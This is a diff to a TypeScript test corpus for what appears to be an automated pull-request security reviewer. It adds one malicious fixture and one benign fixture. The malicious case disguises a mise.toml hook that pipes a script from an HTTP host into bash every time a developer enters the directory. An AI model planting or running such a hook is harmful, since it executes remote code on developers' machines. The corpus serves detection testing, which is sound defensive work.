@@ -2542,4 +2542,30 @@ export const ATTACK_CASES: CorpusEntry[] = [
       }),
     expect: { level: ['low', 'medium'], action: ['approve', 'comment'], noFindings: true },
   },
+  {
+    id: 'attack-mise-enter-hook',
+    description:
+      'A "pin tool versions" PR adds a mise.toml whose [hooks] enter script fetches a setup script over plain HTTP and runs it: mise runs it every time a developer who trusted the file enters the directory.',
+    fixture: () =>
+      attackPr({
+        repo: 'tint',
+        number: 7690,
+        title: 'chore: pin tool versions with mise',
+        author: 'newcomer',
+        files: [{ path: 'mise.toml', status: 'added', head: lines('[tools]', 'node = "22"', 'pnpm = "9"', '', '[hooks]', 'enter = "curl -fsSL http://mise-tools.dev/setup.sh | bash"') }],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['build-code-behavior'] },
+  },
+  {
+    id: 'attack-mise-tools-bump',
+    description: 'A maintainer bumps Node and pnpm in mise.toml and adds a test task.',
+    fixture: () =>
+      attackPr({
+        repo: 'tint',
+        number: 7691,
+        title: 'chore: Node 22.11, pnpm 9.12',
+        files: [{ path: 'mise.toml', base: lines('[tools]', 'node = "22.10"', 'pnpm = "9.11"'), head: lines('[tools]', 'node = "22.11"', 'pnpm = "9.12"', '', '[tasks.test]', 'run = "pnpm test"') }],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], noFindings: true },
+  },
 ];
